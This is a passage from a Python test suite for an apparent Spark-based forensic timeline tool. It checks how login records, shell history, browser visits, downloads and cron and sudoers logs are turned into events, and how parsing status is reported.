        ("h1", "last_login", "root", 0), ("h2", "last_login", None, 0), ("h2", "last_login", None, 2),
        ("h2", "lastlog_truncated", None, None)]
    assert rows[0].description == "Last login for root on pts/0 from 198.51.100.20"


def test_session_and_browser_tables(spark, hosts):
    sessions = spark.createDataFrame(
        [("h1", "var/log/wtmp.db", "0" * 64, 7, 3, "ann", 1704416523000000, 1704416583000000, "pts/0", "198.51.100.20", "sshd"),
         ("h1", "var/log/wtmp.db", "0" * 64, 8, 3, "", 1704416523000000, None, "", "", "")],
        "host_id string, artifact_path string, artifact_sha256 string, id long, type int, user string, login long, "
        "logout long, tty string, remote_host string, service string")
    rows = session_table_events(sessions, hosts).orderBy("raw_line_offset", "subcategory").collect()
    assert [r.description for r in rows] == [
        "User login: ann on pts/0 via sshd from 198.51.100.20", "Session closed for ann on pts/0 via sshd",
        "User login: unknown user on unknown terminal (local)"]
    profile = ("h1", "home/ann/.mozilla/firefox/p/places.sqlite", "0" * 64)
    head = "host_id string, artifact_path string, artifact_sha256 string, "
    visits = spark.createDataFrame([(*profile, 1, 1704416523000000), (*profile, 2, 1704416524000000)],
                                   head + "place_id long, visit_date long")
    places = spark.createDataFrame([(*profile, 1, "https://a.example/", "A"), (*profile, 2, "about:blank", "B")],
                                   head + "id long, url string, title string")
    rows = firefox_visits(visits, places).collect()
    assert [(r.description, r.actor_user, r.raw_line) for r in rows] == [
        ("Firefox visit: A (https://a.example/)", "ann", "2024-01-05T01:02:03+00:00 https://a.example/ A")]
    webkit = (1704416523 + 11644473600) * 1_000_000
    urls = spark.createDataFrame([(*profile, "https://c.example/", "", webkit), (*profile, "chrome://x", "y", webkit)],
                                 head + "url string, title string, last_visit_time long")
    assert [r.description for r in chrome_visits(urls).collect()] == [
        "Chrome visit: https://c.example/ (https://c.example/)"]
    downloads = spark.createDataFrame([(*profile, "/tmp/x", webkit, 5, "https://d.example/"), (*profile, "/tmp/y", 0, 6, None)],
                                      head + "target_path string, start_time long, total_bytes long, tab_url string")
    rows = chrome_downloads(downloads).orderBy("raw_line").collect()
    assert [(r.timestamp_confidence, r.severity) for r in rows] == [("unknown", "medium"), ("exact", "medium")]


def test_routing_and_status(spark, as_lines, hosts):
    artifacts = spark.createDataFrame([
        ("h1", "var/log/auth.log"), ("h1", "var/log/syslog"), ("h1", "opt/x"), ("h1", "etc/hosts.allow"),
        ("h1", "var/log/secure-20240101"), ("h1", "var/log/wtmp.1")], "host_id string, artifact_path string")
    events = REGISTRY["authlog_parser"].extract(as_lines({"var/log/auth.log": AUTH}), hosts)
    failures = spark.createDataFrame([("h1", "var/log/syslog")], "host_id string, artifact_path string")
    got = {r.artifact_path: (r.parsers, r.parse_events, r.parse_status)
           for r in artifact_status(artifacts, events, failures).collect()}
    assert got == {"var/log/auth.log": (1, 12, "success"), "var/log/syslog": (2, 0, "fail"), "opt/x": (0, 0, "skip"),
                   "etc/hosts.allow": (1, 0, "success"), "var/log/secure-20240101": (0, 0, "skip"),
                   "var/log/wtmp.1": (1, 0, "success")}
    stats = {r.parser_name: (r.success, r.fail, r.events) for r in parser_stats(artifacts, events, failures).collect()}
    assert stats["authlog_parser"] == (1, 0, 12) and stats["usb_parser"] == (0, 1, 0)


def test_extraction_does_not_depend_on_row_order(as_lines, hosts):
    lines = as_lines({"var/log/auth.log": AUTH, "home/ann/.bash_history": "#1704416523\nid\n"})
    shuffled = lines.orderBy(F.rand(3)).repartition(5)
    for name in ("authlog_parser", "shellhist_parser"):
        ids = lambda df: sorted(r.event_id for r in REGISTRY[name].extract(df, hosts).collect())
        assert ids(lines) == ids(shuffled)


def test_all_jobs_read_the_text_once(spark, as_lines, hosts, tmp_path):
    """The union of all jobs over staged lines is what the jobs give one by one, and its plan does not read the text again."""
    from fleetlens.extract import extract_all

    lines = as_lines({"var/log/auth.log": AUTH, "var/log/syslog": "Jan  5 01:05:01 n1 CRON[80]: (root) CMD (/bin/x)\n",
                      "var/log/secure.1": "2021-03-04T05:06:07 n1 boot\n" + AUTH, "etc/sudoers": "carol ALL=(ALL) ALL\n", "other/file": "x\n"})
    lines.write.parquet(str(tmp_path / "text"))
    stored = spark.read.parquet(str(tmp_path / "text"))
    together = extract_all(stored, hosts)
    plan = together._jdf.queryExecution().optimizedPlan().toString()
    assert str(tmp_path) not in together._jdf.queryExecution().toString() and "Relation" in plan
    names = ["authlog_parser", "cronlog_parser", "sudoers_parser", "usb_parser"]
    apart = [row for n in names for row in REGISTRY[n].extract(stored, hosts).collect()]
    assert sorted(map(str, together.collect())) == sorted(map(str, apart)) and len(apart) > 20


def test_globs_are_tried_per_path_not_per_line(as_lines):
    from fleetlens.extract.base import claimed_lines
    lines = as_lines({"var/log/syslog": "a\nb", "var/log/other": "c"})
    claimed = claimed_lines(lines, ["cronlog_parser", "usb_parser"])
    assert sorted((r.line, r.job) for r in claimed.collect()) == [
        (text, job) for text in "ab" for job in ("cronlog_parser", "usb_parser")]
    assert "RLIKE" not in claimed._jdf.queryExecution().optimizedPlan().toString()
